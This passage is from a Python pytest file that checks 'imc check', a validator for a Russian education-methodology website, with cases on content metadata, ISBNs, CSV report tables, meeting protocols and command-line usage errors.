         [E(PRACTICE, "noviznа", 5, "review.scores.noviznа", "нет в data/criteria.yml", "«novizna»"),
          E(PRACTICE, None, None, "review.scores", "не выставлены баллы по критериям: novizna")]),
    Case("review-without-protocol", "9",
         replace(PRACTICE, '  protocol: "3"\n', ""),
         [E(PRACTICE, "status: rekomendovana", 3, "review", "без даты или номера протокола")]),
    Case("regulation-in-force-without-order", "9",
         replace(REGULATION, "order:\n  number: 45-од\n  date: 2024-08-30\n"
                             "  issuer: Управление образования администрации Заречного округа\n", ""),
         [E(REGULATION, "status: deystvuet", 9, "status", "без приказа", "order")]),
    Case("event-end-before-start", "9",
         replace(EVENT, "end: 2025-03-13", "end: 2025-03-11"),
         [E(EVENT, "end: 2025-03-11", 6, "end", "окончание раньше начала")]),
    Case("rmo-meeting-outside-school-year", "9",
         replace(RMO, "  - date: 2024-10-15", "  - date: 2023-10-15"),
         [W(RMO, "date: 2023-10-15", 11, "meetings[0].date", "вне учебного года 2024/2025")], rc=0),
    Case("registry-duplicate-id", "9",
         replace(PEOPLE, "- id: petrov-an", "- id: ivanova-mp"),
         [E(PEOPLE, 7, 7, "id", "«ivanova-mp» уже встречался")]),
    Case("registry-bad-vocabulary", "9",
         replace(ORGS, "  district: lesnoy", "  district: Лесной р-н"),
         [E(ORGS, "district: Лесной", 13, "district", "нет в словаре")]),
    Case("content-duplicate-id", "9",
         write("docs/praktiki/chitatelskiy-marafon.md",
               (MINI / PRACTICE).read_text(encoding="utf-8")),
         [E((PRACTICE, "docs/praktiki/chitatelskiy-marafon.md"), 1, 1, "", "уже занят")]),
    # ---------------------------------------------------------------- нормативная база, аттестация
    Case("act-valid", "9", act(), rc=0,
         absent=[W(ACT, None, None, None, None)]),
    Case("act-number-with-sign", "9", act('number: "196"', 'number: "№ 196"'),
         [E(ACT, "number:", 9, "number", "со знаком №", "number: 196", "act-number")]),
    Case("act-number-with-date", "9", act('number: "196"', 'number: 196 от 24.03.2023'),
         [E(ACT, "number:", 9, "number", "не похож на номер акта", code="act-number")]),
    Case("act-date-russian-format", "5", act("date: 2023-03-24", "date: 24.03.2023"),
         [E(ACT, "date:", 7, "date")]),
    Case("act-future-in-force", "9", act("date: 2023-03-24", "date: 2999-03-24"),
         [E(ACT, "status:", 9, "status", "будущим числом (2999-03-24), а статус «действует»", code="act-future")]),
    Case("act-changed-without-act", "9", act("status: deystvuet", "status: izmenen"),
         [E(ACT, "status:", 9, "status", "не указано, каким актом", "changed_by", "act-changed-by")]),
    Case("act-changed-by-unknown", "28",
         act("status: deystvuet", "status: izmenen\nchanged_by: prikaz-569"),
         [E(ACT, "changed_by:", 13, "changed_by", "«prikaz-569» нет в docs/normativnaya-baza/",
            code="reference")]),
    Case("act-duplicate", "9", chain(act(), act(rel=ACT2)),
         # the second file in path order is the copy (the message names the first)
         [E(ACT, "number:", 9, "number", "уже есть в реестре: " + ACT2, code="act-duplicate")],
         absent=[E(ACT2, None, None, None, "уже есть в реестре")]),
    Case("act-unknown-issuer", "28", act("issuer: minprosveshcheniya", "issuer: minprosvescheniya"),
         [E(ACT, "issuer:", 9, "issuer", "нет в data/issuers.yml", "«minprosveshcheniya»", "reference")]),
    Case("act-dead-internal-link", "22",
         act("Действующий порядок аттестации.", "Заменил [прежний порядок](prikaz-276.md)."),
         [E(ACT, "Заменил", 27, "", "несуществующий файл «prikaz-276.md»", code="link")]),
    Case("act-without-comment-and-source", "9",
         chain(act("source: http://publication.pravo.gov.ru/\n", ""),
               replace(ACT, "## Что это значит для учителя", "## Комментарий")),
         [W(ACT, "title:", None, "", "ни ссылки на официальную публикацию", code="act-source"),
          W(ACT, None, None, "", "нет раздела «Что это значит для учителя»", code="act-comment")], rc=0),
    Case("attestation-window-reversed", "9",
         write(ATTESTATION, VALID_WINDOW.replace("end: 2026-10-15", "end: 2026-08-15")),
         [E(ATTESTATION, "end: 2026-08-15", 8, "end", "заканчивается раньше, чем начинается",
            code="attestation-dates")]),
    Case("attestation-form-file-missing", "26",
         write(ATTESTATION, VALID_WINDOW.replace("url: https://example.org/obrazets",
                                                 "file: attestatsiya/obrazets.docx")),
         [E(ATTESTATION, "file: attestatsiya", 9, "file", "файла «docs/attestatsiya/obrazets.docx» нет",
            code="attestation-file")]),
    Case("attestation-form-outside-docs", "26",
         write(ATTESTATION, VALID_WINDOW.replace("url: https://example.org/obrazets", "file: ../data/people.yml")),
         [E(ATTESTATION, "file: ../data", 9, "file", "выходит за папку docs/", code="attestation-file")]),
    Case("registry-not-a-list", "7",
         write(ORGS, "sosh-1: Средняя школа № 1\n"),
         [E(ORGS, 1, 1, "", "списком")]),
    # ---------------------------------------------------------------- courses and books
    Case("course-valid", "9", write(COURSE, VALID_COURSE), rc=0),
    Case("course-ends-before-start", "9",
         write(COURSE, VALID_COURSE.replace("end: 2026-12-18", "end: 2026-12-01")),
         [E(COURSE, "end: 2026-12-01", 6, "end", "раньше, чем начинается", "start и end",
            code="course-dates")]),
    Case("course-zero-hours", "9",
         write(COURSE, VALID_COURSE.replace("hours: 36", "hours: 0")),
         [E(COURSE, "hours: 0", 8, "hours", "у курса 0 часов", "объём программы", code="course-hours")]),
    Case("course-deadline-after-start", "9",
         write(COURSE, VALID_COURSE.replace("registration_deadline: 2026-12-01",
                                            "registration_deadline: 2026-12-09")),
         [E(COURSE, "registration_deadline:", 24, "registration_deadline",
            "позже начала курса", "не позже дня начала", code="course-registration")]),
    Case("course-unknown-format", "9",
         write(COURSE, VALID_COURSE.replace("format: smeshanno", "format: заочно")),
         [E(COURSE, "format:", 9, "format", "нет в словаре")]),
    Case("book-valid", "9", write(BOOK, VALID_BOOK), rc=0),
    Case("book-isbn-checksum", "9",
         write(BOOK, VALID_BOOK.replace("isbn: 978-5-6049830-1-0", "isbn: 978-5-6049830-1-9")),
         [E(BOOK, "isbn:", 7, "isbn", "не сходится контрольная цифра (последняя): для этих цифр она должна быть 0",
            "сверьте номер с оборотом титула", code="isbn")]),
    Case("book-isbn-length", "9",
         write(BOOK, VALID_BOOK.replace("isbn: 978-5-6049830-1-0", "isbn: 978-5-6049830-1")),
         [E(BOOK, "isbn:", 7, "isbn", "12 цифр, а нужно 13", "пропущена ли цифра", code="isbn")]),
    Case("book-isbn-letters", "9",
         write(BOOK, VALID_BOOK.replace("isbn: 978-5-6049830-1-0", "isbn: 978-5-6O49830-1-0")),
         [E(BOOK, "isbn:", 7, "isbn", "только цифры", code="isbn")]),
    Case("book-isbn-twice", "9",
         chain(write(BOOK, VALID_BOOK), write("docs/knigi/kopiya.md", VALID_BOOK)),
         [E("docs/knigi/kopiya.md", "isbn:", 7, "isbn", "книга с ISBN 978-5-6049830-1-0 уже описана в docs/knigi/kniga.md",
            code="isbn-duplicate")]),
    Case("book-author-not-a-name", "9",
         write(BOOK, VALID_BOOK.replace("authors: [Лебедева Н. А.]", "authors: [коллектив авторов]")),
         [W(BOOK, "authors:", None, "authors[0]", "не похоже на «Фамилия И. О.»", code="book-author")], rc=0),
]


# ------------------------------------------------------------------ the service's year (plans, reports)

REPORT = "docs/analitika/itogi-goda/index.md"
PLAN = "docs/plany/plan-2025-2026/index.md"
CSV = "docs/analitika/itogi-goda/oge.csv"


def report(csv: str | bytes, table: str = "", name: str = "oge.csv") -> Setup:
    """A report with one data table (declared as `table` adds to the declaration)."""
    meta = ("---\ntitle: Итоги года\ndescription: Результаты ОГЭ по районам.\nkind: analiz\n"
            "school_year: 2025/2026\ndate: 2026-08-20\ndata:\n"
            f"  - file: {name}\n    title: ОГЭ по математике\n    columns:\n"
            "      - {name: Район}\n      - {name: «2», unit: \"%\"}\n      - {name: «3», unit: \"%\"}\n"
            "      - {name: «4» и «5», unit: \"%\"}\n"
            f"{table}---\n\n## Выводы\n\nДоля «2» снизилась.\n")
    return chain(write(REPORT, meta), write(f"docs/analitika/itogi-goda/{name}", csv))


GOOD_CSV = "Район,«2»,«3»,«4» и «5»\nЛесной район,7.1,44.6,48.3\nОзёрный район,9.3,47.4,43.3\n"
SUMS = "    sums:\n      - {of: [«2», «3», «4» и «5»], equals: \"100\"}\n"


def plan(item: str, year: str = "2025/2026") -> Setup:
    return write(PLAN, "---\ntitle: План работы на год\n"
                       f"school_year: {year}\nstatus: proekt\nsections:\n  - title: Семинары\n    items:\n"
                       f"{item}---\n\n## Цели и задачи\n\nПомочь учителям.\n")


YEAR_CASES: list[Case] = [
    Case("report-valid-table", "9", report(GOOD_CSV, SUMS), rc=0),
    Case("report-percent-130", "9",
         report(GOOD_CSV.replace("44.6,48.3", "130,48.3")),
         [E(CSV, "130,48.3", 1, None, "««3»»: 130 % — доля не может быть больше 100", "от 0 до 100", "data-percent")]),
    Case("report-sum-does-not-add-up", "9",
         report(GOOD_CSV.replace("9.3,47.4,43.3", "9.3,47.4,33.3"), SUMS),
         [E(CSV, "Озёрный район", 1, None, "= 90, а должна быть 100", None, "data-sum")]),
    Case("report-csv-broken-row", "9",
         report(GOOD_CSV.replace("7.1,44.6,48.3", "7,1,44,6,48,3")),
         [E(CSV, "Лесной район", 1, None, "в строке 7 знач., а столбцов 4", "разделители", "data-row")]),
    Case("report-csv-cp1251", "9",
         report(GOOD_CSV.encode("cp1251")),
         [E(CSV, 1, 1, None, "в кодировке Windows-1251", "CSV UTF-8", "data-encoding")]),
    Case("report-csv-not-a-number", "9",
         report(GOOD_CSV.replace("9.3,", "девять,")),
         [E(CSV, "Озёрный район", 1, None, "«девять» в столбце ««2»» — не число", None, "data-number")]),
    Case("report-missing-table", "26",
         chain(report(GOOD_CSV), replace(REPORT, "file: oge.csv", "file: net.csv")),
         [E(REPORT, "file: net.csv", 11, "data[0].file", "нет файла таблицы «net.csv»")]),
    Case("report-personal-data-in-row", "27",
         report(GOOD_CSV.replace("Лесной район", "Петров Андрей Николаевич")),
         [E(CSV, "Петров", 1, None, "имя человека", "обобщённые цифры", "data-personal")]),
    Case("plan-item-unknown-responsible", "28",
         plan("      - what: Семинар по ФГ\n        when: 2025-10-15\n        responsible: [neizvestnyy-ii]\n"),
         [E(PLAN, "neizvestnyy-ii", 23, "sections[0].items[0].responsible[0]", "«neizvestnyy-ii» нет в data/people.yml")]),
    Case("plan-item-bad-term", "6",
         plan("      - what: Семинар по ФГ\n        when: в течение года\n"),
         [E(PLAN, "в течение года", 15, "sections[0].items[0].when", "«в течение года» — не срок", "2025-10")]),
    Case("plan-year-backwards", "6",
         plan("      - what: Семинар по ФГ\n", year="2026/2025"),
         [E(PLAN, "school_year: 2026/2025", 14, "school_year", "«2026/2025» — не учебный год", "2025/2026")]),
    Case("plan-item-name-without-consent", "27",
         plan("      - what: Открытый урок Сидоровой Елены Викторовны\n"),
         [E(PLAN, "Сидоровой", 15, "sections[0].items[0].what", "без согласия", "consent: false")]),
    Case("report-yaml-table-broken", "1",
         report("- Район: Лесной\n  «2»: [7.1\n", name="oge.yml"),
         [E("docs/analitika/itogi-goda/oge.yml", None, None, None, "таблица YAML не читается")]),
    Case("plan-from-unknown-recommendation", "28",
         chain(report(GOOD_CSV, "recommendations:\n  - {id: r1, text: Продолжить адресную помощь.}\n"),
               plan("      - what: Адресная помощь\n        from: itogi-goda#r7\n")),
         [E(PLAN, "itogi-goda#r7", 15, "sections[0].items[0].from", "нет рекомендации «r7»", "есть: r1")]),
]
CASES += YEAR_CASES
# ---------------------------------------------------------------- bodies (docs/struktura/): состав,
# протоколы, решения; the mini project has no body page, each case writes one
BODY = "docs/struktura/metodsovet.md"
VALID_BODY = """---
title: Методический совет
description: Состав, заседания и решения методического совета.
structure: metodsovet
members:
  - person: kuznetsova-oi
    role: председатель
  - person: petrov-an
    role: член совета
  - person: sidorova-ev
    role: секретарь
meetings:
  - date: 2025-09-25
    topic: План работы на учебный год
    form: seminar
    protocol: "1"
    decisions:
      - text: Утвердить план работы объединений.
        responsible: [kuznetsova-oi]
        deadline: 2025-10-01
        execution:
          status: vypolneno
          date: 2025-09-30
  - date: 2025-12-11
    topic: Экспертиза практик
    form: seminar
    protocol: "2"
    decisions:
      - text: Опубликовать рекомендованные практики.
        responsible: [petrov-an, ivanova-mp]
        deadline: 2025-12-25
---
## Цели и задачи

Совет координирует методическую работу.
"""


def body_page(*pairs: str) -> Setup:
    """The valid body page with each (old, new) pair replaced once."""
    text = VALID_BODY
    for old, new in zip(pairs[::2], pairs[1::2]):
        assert old in text, old
        text = text.replace(old, new, 1)
    return write(BODY, text)


def body_line(text: str) -> int:
    return VALID_BODY.split("\n").index(text) + 1


CASES += [
    Case("body-valid", "9", body_page(), rc=0),
    Case("body-decision-without-deadline", "9",
         body_page("        deadline: 2025-10-01\n", ""),
         [E(BODY, "- text: Утвердить план", None, "meetings[0].decisions[0].deadline",
            "обязательное поле не заполнено", "deadline", code="required")]),
    Case("body-deadline-before-meeting", "9",
         body_page("deadline: 2025-10-01", "deadline: 2025-08-01"),
         [E(BODY, "deadline: 2025-08-01", 19, "meetings[0].decisions[0].deadline",
            "срок 2025-08-01 раньше самого заседания (2025-09-25)", code="deadline")]),
    Case("body-unknown-responsible", "9",
         body_page("responsible: [kuznetsova-oi]", "responsible: [kuznetsova-io]"),
         [E(BODY, "responsible: [kuznetsova-io]", 23, "meetings[0].decisions[0].responsible[0]",
            "«kuznetsova-io» нет в data/people.yml", "«kuznetsova-oi»", code="reference")]),
    Case("body-member-without-role", "9",
         body_page("    role: член совета\n", ""),
         [E(BODY, "- person: petrov-an", None, "members[1].role", "обязательное поле не заполнено",
            "role", code="required")]),
    Case("body-protocol-number-repeated", "9",
         body_page('protocol: "2"', 'protocol: "1"'),
         [E(BODY, body_line('    protocol: "2"'), 15, "meetings[1].protocol",
            "протокол №\u00a01 в 2025/2026 учебном году уже есть (строка %d)" % body_line('    protocol: "1"'),
            "нумерация начинается заново", code="protocol")]),
    Case("body-protocol-numbers-restart-each-school-year", "9",
         body_page("  - date: 2025-12-11", "  - date: 2026-09-24", 'protocol: "2"', 'protocol: "1"',
                   "deadline: 2025-12-25", "deadline: 2026-10-01"), rc=0),
    Case("body-unknown-structure", "9",
         body_page("structure: metodsovet", "structure: metodsovt"),
         [E(BODY, "structure: metodsovt", 12, "structure", "«metodsovt» нет в data/structure.yml",
            "«metodsovet»", code="reference")]),
    Case("body-unknown-execution-status", "9",
         body_page("status: vypolneno", "status: сделано"),
         [E(BODY, "status: сделано", 19, "meetings[0].decisions[0].execution.status", "нет в словаре")]),
    Case("rmo-decision-deadline-before-meeting", "9",
         replace(RMO, '    protocol: "1"\n', '    protocol: "1"\n    decisions:\n      - text: Провести открытый урок.\n'
                 '        responsible: [petrov-an]\n        deadline: 2024-09-01\n'),
         [E(RMO, "deadline: 2024-09-01", 19, "meetings[0].decisions[0].deadline", "раньше самого заседания")]),
    Case("site-labels-unknown-field", "9",
         append("data/site.yml", "labels:\n  rmo:\n    shortt: ГМО\n"),
         [E("data/site.yml", "shortt: ГМО", 5, "labels.rmo.shortt", "неизвестное поле", "«short»")]),
]


def assert_no_file(root: Path, name: str) -> None:
    assert not (root / name).exists() and not Path(name).exists(), "a YAML tag ran a command"


def test_catalogue_is_large_enough():
    assert len(CASES) >= 40
    assert len({c.id for c in CASES}) == len(CASES), "duplicate case ids"
    covered = {int(n) for c in CASES for n in c.item.split(",")}
    assert covered >= set(range(1, 29)), f"items not covered: {set(range(1, 29)) - covered}"


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input(case: Case, mini: Path):
    case.setup(mini)
    run = check_json(mini, timeout=case.max_seconds * 3 if case.max_seconds else 120)
    problems = run.problems
    assert run.rc == case.rc, f"exit code {run.rc}, expected {case.rc}:\n{show(problems)}"
    for exp in case.expect:
        assert_reported(mini, problems, exp)
    for exp in case.absent:
        assert_not_reported(mini, problems, exp)
    if case.rc == 0:
        assert not [p for p in problems if p["severity"] == "error"], show(problems)
    for p in problems:  # every problem is placed and explained in Russian
        assert p["path"] and p["line"] >= 1 and p["col"] >= 1, p
        assert re.search("[а-яё]", p["message"], re.I), p
    if case.max_seconds is not None:
        assert run.seconds < case.max_seconds, f"imc check took {run.seconds:.1f} s"
    if case.extra is not None:
        case.extra(mini)


# ------------------------------------------------------------------ the fixture itself

def test_mini_project_is_clean(mini: Path):
    run = check_json(mini)
    assert run.problems == [], show(run.problems)
    assert run.rc == 0
    text = run_imc(mini, "check")
    assert text.rc == 0
    assert text.stdout.strip() == "Проверка пройдена: ошибок нет."
    strict = run_imc(mini, "check", "--strict")
    assert strict.rc == 0, strict.stdout


def test_mini_project_has_every_content_type():
    from imc.check.load import load_project
    project = load_project(MINI)
    types = {i.type.name for i in project.items}
    assert types == {"practice", "product", "rmo", "regulation", "event", "news", "page"}
    people = project.registries["people"]
    assert len(people) == 4 and sum(p["consent"] is False for p in people.values()) == 1
    assert len(project.registries["organisations"]) == 3
    practice = project.get("practice", "chitatelskiy-marafon")
    assert set(practice.meta["review"]["scores"]) == set(project.registries["criteria"])


# ------------------------------------------------------------------ CLI behaviour

def test_path_filter(mini: Path):
    replace(PRACTICE, "levels: [ООО]", "levels: [ООО5]")(mini)
    news_body("Звоните: +7 (912) 345-67-89.")(mini)
    everything = check_json(mini)
    assert {p["path"] for p in everything.problems} == {PRACTICE, NEWS}
    only_news = run_imc(mini, "check", "--format", "json", "docs/novosti", cwd=mini)
    assert only_news.rc == 0, only_news.stdout + only_news.stderr
    assert {p["path"] for p in only_news.problems} == {NEWS}
    only_practice = run_imc(mini, "check", "--format", "json", str(mini / PRACTICE))
    assert only_practice.rc == 1
    assert {p["path"] for p in only_practice.problems} == {PRACTICE}
    errors_only = run_imc(mini, "check", "--format", "json", "--errors-only")
    assert {p["severity"] for p in errors_only.problems} == {"error"}
    strict = run_imc(mini, "check", "--strict", "docs/novosti", cwd=mini)
    assert strict.rc == 1


def test_path_filter_missing_file(mini: Path):
    """A typo in the path must not pass silently as «no errors»: it is wrong usage (exit 2)."""
    run = run_imc(mini, "check", "docs/novosti/net-takogo.md", cwd=mini)
    assert run.rc == 2, (run.rc, run.stdout, run.stderr)
    assert run.stdout == ""
    assert run.stderr == "imc: «docs/novosti/net-takogo.md» не найден: проверьте имя файла или папки\n"


def test_line_separator_from_word(mini: Path):
    """Word pastes U+2028 (LINE SEPARATOR) into titles; YAML 1.1 counts it as a line break,
    editors and GitHub do not. The title is the author's text: kept as written, no problem
    reported (a message would point at a line break the author cannot see)."""
    replace(NEWS, "title: Подведены итоги конкурса методических разработок",
            "title: Подведены итоги\u2028конкурса")(mini)
    run = check_json(mini)
    assert run.rc == 0, show(run.problems)
    assert [p for p in run.problems if p["path"] == NEWS] == [], show(run.problems)
    meta_of(NEWS, ("title",), "Подведены итоги\u2028конкурса")(mini)


def test_path_filter_outside_project(mini: Path, tmp_path: Path):
    run = run_imc(mini, "check", str(tmp_path))
    assert run.rc == 2, (run.rc, run.stdout, run.stderr)
    assert run.stderr.startswith(f"imc: «{tmp_path}» — вне проекта"), run.stderr


def test_github_format(mini: Path):
    replace(PRACTICE, "levels: [ООО]", "levels: [ООО5]")(mini)
    news_body("Звоните: +7 (912) 345-67-89.")(mini)
    run = run_imc(mini, "check", "--format", "github")
    assert run.rc == 1
    lines = run.stdout.strip().splitlines()
    errors = [ln for ln in lines if ln.startswith("::error ")]
    assert len(errors) == 1, lines
    assert re.fullmatch(
        r"::error file=docs/praktiki/chitatelskiy-marafon/index\.md,line=7,col=10,"
        r"title=levels\[0\]::«ООО5» нет в словаре .*", errors[0]), errors[0]
    assert "возможно, «ООО»?" in errors[0]
    assert any(re.fullmatch(r"::warning file=docs/novosti/itogi-konkursa\.md,line=\d+,col=\d+,"
                            r"title=imc check::в тексте номер телефона .*", ln) for ln in lines), lines
    assert lines[-1] == "Итого: ошибок — 1, предупреждений — 1."
    assert all(ln.startswith("::") for ln in lines[:-1])


def test_text_format(mini: Path):
    replace(PRACTICE, "levels: [ООО]", "levels: [ООО5]")(mini)
    run = run_imc(mini, "check")
    assert run.rc == 1
    first = run.stdout.splitlines()[0]
    assert re.fullmatch(r"docs/praktiki/chitatelskiy-marafon/index\.md:7:10: ошибка: levels\[0\]: "
                        r"«ООО5» нет в словаре .* — возможно, «ООО»\? .*", first), first


@pytest.mark.parametrize("args", [
    ["check", "--no-such-option"],
    ["check", "--format", "xml"],
    ["no-such-command"],
    [],
    ["--root", "/net/takoy/papki", "check"],
    ["new", "video", "--title", "Урок"],
    ["new", "practice", "--title", "Урок", "--id", "../../vne-proekta"],
    ["import", "net-takogo.docx", "--type", "practice"],
    ["import", "docs", "--type", "practice"],
    ["import", "docs/index.md", "--type", "video"],
    ["import", "docs/index.md", "--type", "practice", "--id", "Код по-русски"],
    ["import", "docs/index.md", "--type", "practice", "--output", "urok.txt"],
    ["proposal", "net-zayavki.txt"],
    ["build", "--no-such-option"],
    ["serve", "--dev-addr", "localhost"],
    ["schema", "--output", "docs/index.md"],
])
def test_usage_errors_exit_2(mini: Path, args):
    """Wrong usage of any command — a mistyped path, an unknown type, a bad argument — exits
    with 2 and a message, changes nothing and never shows a traceback."""
    before = sorted(p.relative_to(mini).as_posix() for p in mini.rglob("*"))
    run = run_imc(mini, *args, cwd=mini)
    assert run.rc == 2, (run.rc, run.stdout, run.stderr)
    assert (run.stderr or run.stdout).startswith(("imc: ", "usage: imc")), run.stderr  # bare `imc`: help
    assert sorted(p.relative_to(mini).as_posix() for p in mini.rglob("*")) == before


def test_json_shape(mini: Path):
    replace(PRACTICE, "levels: [ООО]", "levels: [ООО5]")(mini)
    (problem,) = check_json(mini).problems
    assert set(problem) == {"path", "line", "col", "message", "hint", "field", "severity", "code"}
    assert problem["severity"] == "error" and problem["code"] == "vocab"
